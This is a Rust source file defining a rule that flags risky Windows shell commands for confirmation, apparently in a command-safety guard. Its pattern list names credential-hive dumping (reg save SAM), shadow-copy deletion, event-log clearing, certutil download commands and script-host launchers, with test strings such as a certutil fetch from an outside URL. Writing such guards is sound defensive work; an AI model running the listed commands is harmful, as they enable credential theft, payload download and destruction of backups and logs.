//! Windows, reached from a shell.

use super::super::super::category::Category;
use super::super::{DangerRule, RuleCheck};

const WINDOWS: Category = Category::asks(
    "Windows system",
    "Settings, accounts, backups or protections of a Windows system would be changed.",
);

pub(super) const RULES: &[DangerRule] = &[DangerRule {
    category: WINDOWS,
    programs: &[],
    check: RuleCheck::Words(&[
        ("reg", "save|export *sam|*system|*security|*sam*"),
        ("cmdkey", "/list|/add*|/delete*"),
        ("vaultcmd", "/list*|/delete*"),
        (
            "ntdsutil|dsdbutil|dsquery|csvde|ldifde|secedit|gpupdate|auditpol|tskill|logoff|rwinsta|sdelete|sdelete64",
            "*",
        ),
        ("msiexec", "/x*|/uninstall"),
        ("msiexec", "/i http*"),
        ("set-psreadlineoption", "-HistorySaveStyle|-historysavestyle *nothing*"),
        ("netsh", "trace|winsock|winhttp|http|int|lan|nps start|reset|set|delete|add"),
        ("wusa|pnputil|driverquery|devcon", "/uninstall*|/delete*|/add-driver|remove|disable"),
        ("setx", "/m|path|PATH"),
        ("mountvol|subst|label|convert|diskraid|diskshadow", "/d|/r|/p|/fs*|/s *"),
        ("appcmd|iisreset", "delete|stop|set|/stop|/restart|*"),
        (
            "dsmod|dsrm|dsadd|net1|nltest|repadmin|dcdiag",
            "user|group|computer|-noprompt|/delete|/add|/removelingeringobjects *",
        ),
        ("klist", "purge"),
        ("reg", "delete|add|import|load|restore|unload"),
        ("vssadmin|wbadmin", "delete|resize"),
        ("bcdedit", "/set|/delete|/deletevalue|/import"),
        ("wmic", "delete|call|shadowcopy|useraccount delete|create|uninstall|terminate|set|*"),
        ("certutil", "-urlcache|-decode|-addstore|/urlcache|-encode"),
        (
            "rundll32|regsvr32|mshta|cscript|wscript|installutil|msbuild|odbcconf|cmstp|forfiles|bitsadmin|psexec|psexec64|winrm|winrs",
            "*",
        ),
        (
            "set-executionpolicy|stop-computer|restart-computer|clear-recyclebin|remove-item|clear-disk|format-volume|initialize-disk|new-localuser|add-localgroupmember|set-mppreference|disable-windowsoptionalfeature|stop-service|remove-service|unregister-scheduledtask|clear-eventlog|disable-netadapter|remove-aduser|reset-computermachinepassword|remove-partition",
            "*",
        ),
        ("net", "user|localgroup|share|stop|group|accounts *"),
        ("sc", "delete|config|create|stop *"),
        ("netsh", "advfirewall|firewall|interface|wlan set|add|delete|reset|export|off"),
        ("takeown|icacls|cacls", "/f|/grant|/reset|/r|/t|/grant:r|/deny"),
        ("cipher", "/w*"),
        ("diskpart|format|fsutil|chkdsk|defrag|manage-bde", "*"),
        ("wevtutil", "cl|clear-log|sl"),
        ("wsl", "-u|--user root"),
        ("wsl", "--unregister|--shutdown"),
        ("taskkill", "/f|/im *"),
        ("shutdown", "/s|/r|/p|/h"),
        ("robocopy", "/mir|/purge|/move"),
        ("schtasks", "/delete|/change"),
        ("powercfg|dism|sfc", "/h|/online|-h /disable*|off"),
        ("attrib", "+h|+s|-h *"),
    ]),
    catches: &[
        "reg delete HKLM\\X /f",
        "vssadmin delete shadows /all",
        "certutil -urlcache -f http://x.io/a a",
        "wsl.exe -u root sh",
    ],
    passes: &["reg query HKLM", "vssadmin list shadows", "net view", "wsl ls"],
}];
